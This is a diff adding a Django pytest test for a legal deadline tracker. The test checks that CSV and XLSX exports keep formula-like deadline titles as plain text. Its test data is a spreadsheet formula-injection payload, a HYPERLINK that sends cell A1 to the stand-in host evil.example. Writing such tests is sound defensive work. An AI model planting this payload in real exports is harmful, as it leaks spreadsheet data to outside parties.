@@ -559,3 +559,23 @@ def test_paralegal_home_shows_deadlines_of_cases_they_assist(client, case, paral
     Deadline.objects.create(case=case, title="Срок помощника", due_on=days(1))
     client.force_login(paralegal)
     assert "Срок помощника" in client.get(reverse("home")).content.decode()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_exported_text_that_looks_like_a_formula_stays_text(client, case, lawyer, start):
+    """A deadline titled like a formula is exported as text in both formats: in CSV behind
+    an apostrophe, in XLSX as a text cell, never a formula."""
+    payload = f'{start}HYPERLINK("http://evil.example/?x="&A1,"Открыть")'
+    Deadline.objects.create(case=case, title=payload, due_on=days(1))
+    Deadline.objects.create(case=case, title="обычный срок", due_on=days(2))
+    client.force_login(lawyer)
+    body = client.get(export_url("deadlines", "csv")).content.decode("utf-8").lstrip("\ufeff")
+    titles = [row[2] for row in list(csv.reader(io.StringIO(body)))[1:]]
+    assert titles == [f"'{payload}", "обычный срок"]
+    response = client.get(export_url("deadlines", "xlsx"))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in cells] == [f"'{payload}", "обычный срок"]
+    assert all(c.data_type == "s" for c in cells)
+    # Numbers stay numbers: the days-left column of a due date in one day.
+    assert [row[1].value for row in sheet.iter_rows(min_row=2)][0] == 1
